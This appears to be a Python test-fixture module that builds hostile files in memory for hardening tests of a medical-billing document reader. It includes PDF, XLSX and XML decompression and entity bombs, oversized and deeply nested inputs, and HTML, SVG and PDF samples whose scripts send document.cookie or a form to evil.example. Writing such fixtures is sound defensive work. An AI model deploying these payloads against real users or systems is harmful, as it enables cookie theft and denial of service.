"""Hostile files, generated in memory: bombs, broken and disguised files, for the hardening tests.

Nothing here is written to disk, and nothing allocates what the file claims to hold: the
bombs are a few KB to a few MB that *unpack* (or claim to unpack) to gigabytes.
"""

from __future__ import annotations

import functools
import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from decimal import Decimal

from reportlab.lib.pagesizes import letter
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen import canvas

from tests.x12_factory import ClaimSpec, Payment, build_835, medicare_line

MB = 1024 * 1024


# --- raw PDF writing (reportlab cannot write the broken structures we need) -----------------


def raw_pdf(objects: list[bytes], *, trailer: bytes = b"", xref: bool = True) -> bytes:
    """A PDF from object bodies numbered 1…n, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for offset in offsets:
            out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    """A stream object body: its dictionary (with /Length) and its data."""
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page_pdf(
    content: bytes, *, catalog: bytes = CATALOG, extra: tuple[bytes, ...] = ()
) -> bytes:
    """One page showing `content` (an uncompressed content stream) in Helvetica."""
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([catalog, pages, PAGE, stream(content), FONT, *extra])


def text_content(*lines: str) -> bytes:
    """A content stream printing each line (ASCII only)."""
    parts = [b"BT /F1 11 Tf 72 720 Td 14 TL"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        parts.append(b"(" + escaped.encode("latin-1") + b") Tj T*")
    parts.append(b"ET")
    return b"\n".join(parts)


def flate_bomb_pdf(unpacked: int = 512 * MB) -> bytes:
    """A PDF whose one content stream unpacks to `unpacked` bytes (512 MB from ~500 KB)."""
    packer = zlib.compressobj(9)
    piece = b" " * MB
    body = b"".join(packer.compress(piece) for _ in range(unpacked // MB)) + packer.flush()
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, pages, PAGE, stream(body, b"/Filter /FlateDecode "), FONT])


def double_flate_pdf() -> bytes:
    """Flate inside Flate: a few hundred bytes that unpack twice to 1 GB."""
    inner = zlib.compress(b" " * (64 * MB), 9)
    outer = zlib.compress(inner * 16, 9)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    entries = b"/Filter [/FlateDecode /FlateDecode] "
    return raw_pdf([CATALOG, pages, PAGE, stream(outer, entries), FONT])


@functools.cache
def _packed_spaces(unpacked: int) -> bytes:
    """`unpacked` spaces, zlib-packed (1 GiB packs to ~1 MB; made once per size)."""
    packer = zlib.compressobj(9)
    piece = b" " * MB
    return b"".join(packer.compress(piece) for _ in range(unpacked // MB)) + packer.flush()


def _bomb_pdf(*streams: bytes, extra: tuple[bytes, ...] = ()) -> bytes:
    """A one-page PDF whose page shows objects 4, 6, 7… (the bomb streams), then `extra`."""
    numbers = [4] + list(range(6, 5 + len(streams)))
    contents = b"[" + b" ".join(b"%d 0 R" % number for number in numbers) + b"]"
    page = PAGE.replace(b"/Contents 4 0 R", b"/Contents " + contents)
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return raw_pdf([CATALOG, pages, page, streams[0], FONT, *streams[1:], *extra])


PAD = b"/Pad (" + b"x" * 9000 + b") "


def padded_flate_bomb_pdf(unpacked: int = 1024 * MB, streams: int = 1) -> bytes:
    """Issue 17: 1 GiB Flate bombs whose /Filter sits 9 KB before the `stream` keyword."""
    bomb = stream(_packed_spaces(unpacked), b"/Filter /FlateDecode " + PAD)
    return _bomb_pdf(*[bomb] * streams)


def indirect_filter_bomb_pdf(unpacked: int = 1024 * MB) -> bytes:
    """Issue 17: a 1 GiB Flate bomb whose filter is `/Filter 6 0 R` (object 6: /FlateDecode)."""
    bomb = stream(_packed_spaces(unpacked), b"/Filter 6 0 R ")
    return _bomb_pdf(bomb, extra=(b"/FlateDecode",))


def lying_filter_bomb_pdf(unpacked: int = 1024 * MB) -> bytes:
    """A Flate bomb whose dictionary names no filter at all: only its bytes say zlib."""
    return _bomb_pdf(stream(_packed_spaces(unpacked)))


def many_streams_bomb_pdf(each: int = 30 * MB, streams: int = 10) -> bytes:
    """Ten streams each under the one-stream limit, 300 MB together."""
    return _bomb_pdf(*[stream(_packed_spaces(each), b"/Filter /FlateDecode ")] * streams)


def huge_picture_pdf() -> bytes:
    """A page holding a 30000 × 30000 picture (its data is a few bytes: never decoded)."""
    image = stream(
        zlib.compress(b"\x00" * 1024),
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode ",
    )
    return one_page_pdf(text_content("Hello"), extra=(image,))


def huge_page_count_pdf() -> bytes:
    """A page tree that claims two billion pages (it has one)."""
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    return raw_pdf([CATALOG, pages, PAGE, stream(text_content("Hello")), FONT])


def many_kids_pdf(count: int = 100_000) -> bytes:
    """A page tree listing the same page 100,000 times: a real over-long PDF for PDFium."""
    pages = b"<< /Type /Pages /Kids [" + b"3 0 R " * count + b"] /Count %d >>" % count
    return raw_pdf([CATALOG, pages, PAGE, stream(text_content("Hello")), FONT])


def deep_page_tree_pdf(depth: int = 5000) -> bytes:
    """Page-tree nodes nested 5,000 deep above one page (recursion bait for readers)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        number = level + 2
        parent = b"" if level == 0 else b"/Parent %d 0 R " % (number - 1)
        objects.append(b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, number + 1))
    page_number = depth + 2
    objects.append(
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>"
        % (page_number - 1, page_number + 1, page_number + 2)
    )
    objects += [stream(text_content("Hello")), FONT]
    return raw_pdf(objects)


def bad_xref_pdf() -> bytes:
    """Cross-reference offsets that point nowhere, and a startxref past the end."""
    good = one_page_pdf(text_content("Hello"))
    broken = re.sub(rb"\d{10} 00000 n ", b"0009999999 00000 n ", good)
    head, _, _ = broken.rpartition(b"startxref")
    return head + b"startxref\n99999999\n%%EOF\n"


def javascript_pdf(text: str = "Hello") -> bytes:
    """A PDF that runs JavaScript when opened (OpenAction) and on a link annotation."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R >> >>"
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('http://evil.example/'\\)) >>"
    names = b"<< /Names [(x) 6 0 R] >>"
    return one_page_pdf(text_content(text), catalog=catalog, extra=(action, names))


def encrypted_pdf() -> bytes:
    """A PDF locked with a user password (reportlab's standard encryption)."""
    buffer = io.BytesIO()
    sheet = canvas.Canvas(buffer, pagesize=letter, encrypt=StandardEncryption("secret"))
    sheet.drawString(72, 720, "Medicare Summary Notice")
    sheet.save()
    return buffer.getvalue()


def content_heavy_pdf(characters: int = 400_000) -> bytes:
    """Within every size limit, but hundreds of thousands of characters on one page: slow to read."""
    content = b"BT /F1 1 Tf " + b"(A) Tj " * characters + b"ET"
    return one_page_pdf(content)


# --- pictures -----------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb_png(width: int = 30000, height: int = 30000) -> bytes:
    """A tiny PNG whose header says 30000 × 30000 pixels (900 megapixels)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit greyscale
    rows = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows: the rest never comes
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", rows)
        + _png_chunk(b"IEND", b"")
    )


def bomb_gif(width: int = 30000, height: int = 30000) -> bytes:
    """A GIF header declaring 900 megapixels."""
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x00\x00\x00"
        + b"\x2c"
        + b"\x00" * 9
        + b"\x02\x02\x44\x01\x00\x3b"
    )


# --- 835 ----------------------------------------------------------------------------------


def base_835(patient: str = "DOE") -> bytes:
    """A valid one-claim Medicare 835."""
    line = medicare_line(Decimal("150.00"), Decimal("100.00"))
    claim = ClaimSpec(number="CLAIM1", lines=(line,), patient=(patient, "JANE"))
    return build_835(Payment(claims=(claim,)))


def enormous_claim_835(size: int = 6 * MB) -> bytes:
    """The '1 GB claim', made lazily: one claim number of `size` digits in a valid 835."""
    return base_835().replace(b"CLAIM1", b"9" * size)


def enormous_name_835(size: int = 6 * MB) -> bytes:
    """A patient name of `size` letters."""
    return base_835(patient="X" * size)


def enormous_amount_835(size: int = 2 * MB) -> bytes:
    """A charge of two million digits (its segment is far too long to be an 835's)."""
    return base_835().replace(b"*150*", b"*" + b"1" * size + b"*", 1)


def overflowing_amounts_835() -> bytes:
    """Charges of 9 × 10^999999, short enough to pass the segment limit: adding two of
    them overflows Python's decimal context (decimal.Overflow bait)."""
    return base_835().replace(b"*150*", b"*9E+999999*").replace(b"*150~", b"*9E+999999~")


def garbage_835(segments: int = 300_000) -> bytes:
    """A valid 835 with 300,000 garbage segments inside (resynchronisation work)."""
    return base_835().replace(b"LX*1~", b"LX*1~" + b"zz not a segment~" * segments)


# --- other files --------------------------------------------------------------------------


def random_bytes(size: int = 64 * 1024, seed: int = 9) -> bytes:
    """Noise (it may by chance contain NUL: either way it is no paper)."""
    return random.Random(seed).randbytes(size)


def zip_file() -> bytes:
    """A ZIP holding a PDF-looking member."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("msn.pdf", b"%PDF-1.7 " + b"0" * 10000)
    return buffer.getvalue()


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script><text>CO-253 $2.40</text></svg>"
)
HTML = (
    b"<!doctype html><html><body onload=alert(1)><script>fetch('http://evil.example/'+document.cookie)"
    b"</script><img src=x onerror=alert(2)></body></html>"
)


def nested_text(depth: int = 500_000) -> bytes:
    """Deeply nested brackets on one line."""
    return b"(" * depth + b"$1.00" + b")" * depth


def long_line_text(repeat: int = 150_000) -> bytes:
    """One 'line' of 1.5 MB, full of amounts and codes (quadratic bait for a line reader)."""
    return b"CO-253 $1.60 " * repeat


def many_numbers_text(lines: int = 60_000) -> bytes:
    """Sixty thousand short lines of numbers the reader cannot place."""
    return b"12 34 56.78 90\n" * lines


HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # id: (file name, builder)
    "bomb-png": ("photo.png", bomb_png),
    "bomb-gif": ("photo.gif", bomb_gif),
    "flate-bomb-pdf": ("msn.pdf", flate_bomb_pdf),
    "double-flate-pdf": ("msn.pdf", double_flate_pdf),
    "padded-flate-bomb-pdf": ("msn.pdf", padded_flate_bomb_pdf),
    "two-padded-bombs-pdf": ("msn.pdf", lambda: padded_flate_bomb_pdf(streams=2)),
    "indirect-filter-bomb-pdf": ("msn.pdf", indirect_filter_bomb_pdf),
    "lying-filter-bomb-pdf": ("msn.pdf", lying_filter_bomb_pdf),
    "many-streams-bomb-pdf": ("msn.pdf", many_streams_bomb_pdf),
    "huge-picture-pdf": ("scan.pdf", huge_picture_pdf),
    "huge-page-count-pdf": ("msn.pdf", huge_page_count_pdf),
    "many-pages-pdf": ("msn.pdf", many_kids_pdf),
    "deep-page-tree-pdf": ("msn.pdf", deep_page_tree_pdf),
    "bad-xref-pdf": ("msn.pdf", bad_xref_pdf),
    "encrypted-pdf": ("msn.pdf", encrypted_pdf),
    "javascript-pdf": ("msn.pdf", javascript_pdf),
    "zero-bytes": ("msn.pdf", lambda: b""),
    "random-bytes-pdf": ("msn.pdf", random_bytes),
    "pdf-header-then-noise": ("msn.pdf", lambda: b"%PDF-1.7\n" + random_bytes(200_000, seed=3)),
    "enormous-claim-835": ("remit.835", enormous_claim_835),
    "enormous-amount-835": ("remit.835", enormous_amount_835),
    "overflowing-amounts-835": ("remit.835", overflowing_amounts_835),
    "nested-text": ("notes.txt", nested_text),
    "long-line-text": ("notes.txt", long_line_text),
    "many-numbers-text": ("notes.txt", many_numbers_text),
    "svg": ("bill.svg", lambda: SVG),
    "html": ("bill.html", lambda: HTML),
    "zip": ("papers.zip", zip_file),
}


# --- the claims-download formats (issue 17): XLSX, FHIR JSON and NDJSON ----------------------

XLSX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        "</Relationships>"
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships"><sheets><sheet name="Claims" sheetId="1" r:id="rId1"/></sheets>'
        "</workbook>"
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        "</Relationships>"
    ),
}
SHEET_HEAD = (
    b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def _xlsx(sheet: bytes | None = None, *, streamed: int = 0) -> bytes:
    """A minimal workbook; `streamed` bytes of empty rows are packed in pieces, never held."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, text in XLSX_PARTS.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(SHEET_HEAD)
            if sheet is not None:
                member.write(sheet)
            row = b'<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
            piece = row * (MB // len(row))
            for _ in range(streamed // len(piece)):
                member.write(piece)
            member.write(SHEET_TAIL)
    return buffer.getvalue()


@functools.cache
def xlsx_zip_bomb() -> bytes:
    """A workbook whose one sheet unpacks to 256 MB (a ~1 MB file)."""
    return _xlsx(streamed=256 * MB)


def xlsx_entity_bomb() -> bytes:
    """'Billion laughs' in the sheet XML: ten entities, each ten of the one before."""
    entities = b'<!ENTITY a0 "lol">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    sheet = b'<?xml version="1.0"?><!DOCTYPE worksheet [' + entities + b"]>"
    sheet += SHEET_HEAD[len(b'<?xml version="1.0"?>') :]
    sheet += b'<row r="1"><c r="A1" t="inlineStr"><is><t>&a9;</t></is></c></row>' + SHEET_TAIL
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in XLSX_PARTS.items():
            archive.writestr(name, text)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return buffer.getvalue()


def deep_json(depth: int = 1_000_000) -> bytes:
    """A FHIR EOB whose one field nests a million arrays deep."""
    return b'{"resourceType": "ExplanationOfBenefit", "x": ' + b"[" * depth + b"]" * depth + b"}"


def huge_bundle_json(entries: int = 6_000_000) -> bytes:
    """A Bundle of six million empty entries (18 MB): ~500 MB of Python dicts once parsed."""
    return (
        b'{"resourceType": "Bundle", "type": "collection", "entry": ['
        + b"{}," * (entries - 1)
        + b"{}]}"
    )


def huge_ndjson(lines: int = 300_000) -> bytes:
    """A bulk export of 300,000 EOBs, one per line (18 MB)."""
    return b'{"resourceType": "ExplanationOfBenefit", "status": "active"}\n' * lines
